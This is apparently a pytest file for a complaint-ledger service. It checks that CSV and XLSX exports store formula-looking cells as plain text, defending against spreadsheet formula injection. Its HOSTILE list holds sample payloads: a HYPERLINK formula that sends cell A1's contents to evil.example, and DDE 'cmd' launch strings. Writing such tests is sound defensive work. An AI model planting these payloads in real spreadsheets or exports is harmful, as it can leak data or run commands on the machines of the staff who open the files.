"""The ledgers as files are safe to open (issue "Authorization by declared policy", item 5):
a cell a spreadsheet would take for a formula (OWASP CSV injection: a leading `=`, `+`, `-`,
`@`, tab or carriage return) is written as text. Read back as staff's spreadsheets read them."""

from __future__ import annotations

import csv
import io
import zipfile
from dataclasses import replace

import openpyxl
import pytest

from casework.adapters.ledger_files import to_csv, to_xlsx
from casework.application import queries
from casework.application.queries import PROBLEM_COLUMNS
from servicekit.identity import Identity
from servicekit.testing import FakeClock
from services.casework.tests.support.lodging import lodging, register_community
from services.casework.tests.support.scenario import OFFICER, WHEN, app_with_vault

COLUMNS = (("case_id", "编号"), ("category", "问题类别"), ("result", "处理结果"))
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"点击查看")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=1",
]
HARMLESS = ["停车收入未公示", "2026-05-06", "91350200776049653A", "a-b", "", "1+1"]


def rows(values: list[str]) -> list[dict[str, str]]:
    return [
        {"case_id": f"c{i}", "category": value, "result": value} for i, value in enumerate(values)
    ]


def read_csv(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def test_csv_cells_that_look_like_formulas_are_text() -> None:
    table = read_csv(to_csv(COLUMNS, rows(HOSTILE + HARMLESS)))
    assert table[0] == ["编号", "问题类别", "处理结果"]
    body = table[1:]
    assert len(body) == len(HOSTILE) + len(HARMLESS)
    for value, (_, category, result) in zip(HOSTILE, body, strict=False):
        assert category == result == "'" + value  # the quote makes Excel show it as text
    for value, (_, category, result) in zip(HARMLESS, body[len(HOSTILE) :], strict=True):
        assert category == result == value  # nothing else is touched


def test_xlsx_cells_that_look_like_formulas_are_strings() -> None:
    data = to_xlsx([("问题线索台账", COLUMNS, rows(HOSTILE + HARMLESS))])
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml  # no formula element at all
    book = openpyxl.load_workbook(io.BytesIO(data))
    sheet = book["问题线索台账"]
    cells = list(sheet.iter_rows(min_row=2))
    for value, row in zip(HOSTILE + HARMLESS, cells, strict=True):
        for cell in row[1:]:
            assert cell.data_type == ("s" if value else "n"), (value, cell.data_type)
            # Exactly the text, no quote added (XML reads a carriage return as a newline).
            assert (cell.value or "") == value.replace("\r", "\n")
    for value, row in zip(HOSTILE, cells, strict=False):
        # Excel keeps a quote-prefixed cell text even when someone edits it.
        assert row[1].quotePrefix, value


def test_an_error_code_is_text_too() -> None:
    """openpyxl would store `#N/A` as an error cell: it is a complainant's text."""
    data = to_xlsx([("s", COLUMNS, rows(["#N/A", "#REF!"]))])
    sheet = openpyxl.load_workbook(io.BytesIO(data))["s"]
    assert [(c.value, c.data_type) for (_, c, _) in sheet.iter_rows(min_row=2)] == [
        ("#N/A", "s"),
        ("#REF!", "s"),
    ]


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
async def test_a_complaint_category_from_the_public_is_text_in_the_ledger(fmt: str) -> None:
    """The public lodges complaints: what it types reaches the unit's monthly ledger."""
    app = app_with_vault(FakeClock(WHEN))
    register_community(app)
    public = Identity("public", "anonymous", "putian")
    hostile = '=HYPERLINK("http://evil.example","详情")'
    app.handle(public, replace(lodging(), category=hostile))
    ledgers = await queries.monthly_ledgers(app, OFFICER, "licheng", WHEN.year, WHEN.month)
    assert [r["category"] for r in ledgers.problems] == [hostile]
    if fmt == "csv":
        table = read_csv(to_csv(PROBLEM_COLUMNS, ledgers.problems))
        column = [title for _, title in PROBLEM_COLUMNS].index("问题类别")
        assert table[1][column] == "'" + hostile
    else:
        data = to_xlsx([("问题线索台账", PROBLEM_COLUMNS, ledgers.problems)])
        sheet = openpyxl.load_workbook(io.BytesIO(data))["问题线索台账"]
        column = [key for key, _ in PROBLEM_COLUMNS].index("category")
        cell = sheet.cell(row=2, column=column + 1)
        assert (cell.value, cell.data_type) == (hostile, "s")
